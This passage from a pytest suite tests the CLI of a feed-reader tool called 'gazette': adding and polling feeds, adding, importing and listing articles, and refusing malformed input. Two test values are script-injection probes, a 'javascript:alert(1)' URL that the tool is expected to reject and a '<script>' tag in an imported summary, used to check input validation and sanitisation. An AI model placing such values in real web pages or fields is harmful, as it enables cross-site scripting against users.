        assert not any(unicodedata.category(c) in ("Cc", "Zl", "Zp") for c in title), title

    plain = next(a for a in articles if a.guid.endswith("-9000"))
    assert plain.title == PLAIN_TITLE
    assert html.unescape(plain.summary) == f"<p>{PLAIN_TEXT}</p>"
    assert "Київ, Львів; 東京と大阪" in plain.summary  # characters, not numeric entities
    assert {t.name for t in plain.topics} == {"Київ", "東京"}


# --- the CLI ---------------------------------------------------------------------------

GAZETTE = [sys.executable, "-m", "gazette"]


@dataclass
class Cli:
    folder: Path
    env: dict[str, str]

    def __call__(self, *args: str) -> subprocess.CompletedProcess[str]:
        clean = {k: v for k, v in os.environ.items() if not k.startswith("GAZETTE_")}
        clean.update(self.env)
        return subprocess.run(
            [*GAZETTE, *args], cwd=self.folder, env=clean, capture_output=True, text=True,
            timeout=120,
        )  # fmt: skip

    def ok(self, *args: str) -> subprocess.CompletedProcess[str]:
        result = self(*args)
        assert result.returncode == 0, f"{args}: exit {result.returncode}\n{result.stderr}"
        assert "Traceback" not in result.stderr
        return result

    def json(self, *args: str) -> dict[str, Any]:
        document = json.loads(self.ok(*args).stdout)
        assert isinstance(document, dict)
        return document


@pytest.fixture
def cli(runtime: Runtime, tmp_path: Path, database_url: str) -> Cli:
    """The CLI against the test database, migrated by the runtime fixture."""
    return Cli(tmp_path, make_env(tmp_path, database_url))


def test_cli_feeds_add_list_and_poll(cli: Cli, runtime: Runtime, feeds: FeedServer) -> None:
    good_url = feeds.static("/feed/", WORDPRESS.encode())
    bad_url = feeds.url("/error")

    added = cli.ok("feeds", "add", good_url, "--topic", "Research")
    assert added.stdout.strip() == f"Feed 1 added: {good_url}"
    # A feed that is down when added needs --no-check (it is refused otherwise).
    cli.ok("feeds", "add", bad_url, "--interval", "30", "--no-check")

    polled = cli("feeds", "poll", "--all")

    assert polled.returncode == 1, polled.stderr  # one of the two failed
    assert "Traceback" not in polled.stderr
    lines = polled.stdout.strip().splitlines()
    assert lines == [
        f"{good_url}: 2 added, 0 updated, 0 unchanged, 0 rejected",
        f"Feed 2 failed: {bad_url} answered HTTP 500.",
        "Polled 2 feed(s), 1 failed.",
    ]
    listing = cli.json("feeds", "list", "--json")
    by_url = {row["url"]: row for row in listing["feeds"]}
    assert set(by_url) == {good_url, bad_url}
    assert by_url[good_url]["last_error"] is None
    assert by_url[good_url]["last_polled_at"]
    assert by_url[bad_url]["last_error"] == f"{bad_url} answered HTTP 500."
    assert by_url[bad_url]["interval_minutes"] == 30
    articles = cli.json("articles", "list", "--json")["articles"]
    assert len(articles) == 2
    assert all("research" in a["topics"] for a in articles)

    again = cli("feeds", "poll", "--all")
    assert again.returncode == 1, again.stderr
    assert f"{good_url}: 0 added, 0 updated, 2 unchanged, 0 rejected" in again.stdout
    assert article_count(runtime) == 2


@pytest.mark.parametrize(
    ("args", "codes", "named"),
    [
        pytest.param(
            ["--title", "Ferries", "--url", "ftp://harbour.example.org/f"],
            (1,),
            ["url", "'ftp://harbour.example.org/f'"],
            id="ftp-url",
        ),
        pytest.param(
            ["--title", "Ferries", "--url", "javascript:alert(1)"],
            (1,),
            ["url", "'javascript:alert(1)'"],
            id="javascript-url",
        ),
        pytest.param(["--url", "https://harbour.example.org/f"], (2,), ["--title"], id="no-title"),
        pytest.param(
            ["--title", "  ", "--url", "https://harbour.example.org/f"],
            (1,),
            ["title", "https://harbour.example.org/f"],
            id="blank-title",
        ),
        pytest.param(
            ["--title", "Ferries", "--url", "https://x.example.org/f", "--published", "yesterday"],
            (1,),
            ["published", "'yesterday'"],
            id="published-yesterday",
        ),
    ],
)
def test_cli_articles_add_refuses_bad_input(
    cli: Cli, runtime: Runtime, args: list[str], codes: tuple[int, ...], named: list[str]
) -> None:
    result = cli("articles", "add", *args)

    assert result.returncode in codes, result
    assert "Traceback" not in result.stderr
    message = result.stderr.strip().splitlines()[-1]
    one_sentence(message)
    for word in named:
        assert word in message, message
    assert article_count(runtime) == 0


def test_cli_articles_add_then_list(cli: Cli) -> None:
    added = cli.ok(
        "articles", "add", "--title", "Night trains", "--url", "https://rail.example.org/n",
        "--topic", "Transport", "--published", "2026-11-20T09:00:00+01:00",
    )  # fmt: skip
    assert re.fullmatch(r"Article \d+ added\.", added.stdout.strip())
    [row] = cli.json("articles", "list", "--json")["articles"]
    assert row["title"] == "Night trains"
    assert row["topics"] == ["transport"]
    assert datetime.fromisoformat(row["published_at"]) == datetime(2026, 11, 20, 8, tzinfo=UTC)


GOOD_LINES = [
    {"title": "One", "url": "https://import.example.org/1", "published": "2026-11-02T08:00:00Z"},
    {"title": "Two", "url": "https://import.example.org/2", "published": "2026-11-03T08:00:00Z"},
]


@pytest.mark.parametrize(
    "third",
    [
        pytest.param('{"title": "Three", "url": ', id="invalid-json"),
        pytest.param('{"title": "Three"}', id="no-url"),
        pytest.param('{"title": "Three", "url": "gopher://x.example/3"}', id="bad-url"),
        pytest.param(
            '{"title": "Three", "url": "https://import.example.org/3", "published": "soon"}',
            id="bad-date",
        ),
        pytest.param('["not", "an", "object"]', id="not-an-object"),
    ],
)
def test_cli_import_jsonl_with_a_bad_third_line_stores_nothing(
    cli: Cli, runtime: Runtime, tmp_path: Path, third: str
) -> None:
    path = tmp_path / "articles.jsonl"
    lines = [json.dumps(record) for record in GOOD_LINES] + [third]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")

    result = cli("articles", "import", str(path))

    assert result.returncode == 1, result
    assert "Traceback" not in result.stderr
    [message] = result.stderr.strip().splitlines()
    assert re.search(r"(:3:|\bline 3\b)", message), message
    assert article_count(runtime) == 0


def test_cli_import_json_array_then_list_since(cli: Cli, tmp_path: Path) -> None:
    records: list[dict[str, Any]] = [
        {"title": "Before", "url": "https://import.example.org/a",
         "published": "2026-10-31T23:59:59Z"},
        {"title": "Midnight", "url": "https://import.example.org/b",
         "published": "2026-11-01T00:00:00Z", "topics": ["Energy"]},
        {"title": "West of UTC", "url": "https://import.example.org/c",
         "published": "2026-10-31T23:30:00-01:00"},
        {"title": "Mid-month", "url": "https://import.example.org/d",
         "published": "2026-11-15T12:00:00+02:00", "summary": "<p>Hi</p><script>x</script>"},
    ]  # fmt: skip
    path = tmp_path / "articles.json"
    path.write_text(json.dumps(records), encoding="utf-8")

    imported = cli.ok("articles", "import", str(path))

    assert imported.stdout.strip() == (
        "Imported articles.json: 4 added, 0 updated, 0 unchanged, 0 rejected."
    )
    everything = cli.json("articles", "list", "--json")["articles"]
    assert {a["title"] for a in everything} == {r["title"] for r in records}
    since = cli.json("articles", "list", "--since", "2026-11-01", "--json")["articles"]
    # Newest first; 23:30 at UTC-1 is 00:30 UTC on 1 November.
    assert [a["title"] for a in since] == ["Mid-month", "West of UTC", "Midnight"]
    assert since[2]["topics"] == ["energy"]

    again = cli.ok("articles", "import", str(path))
    assert "0 added, 0 updated, 4 unchanged" in again.stdout
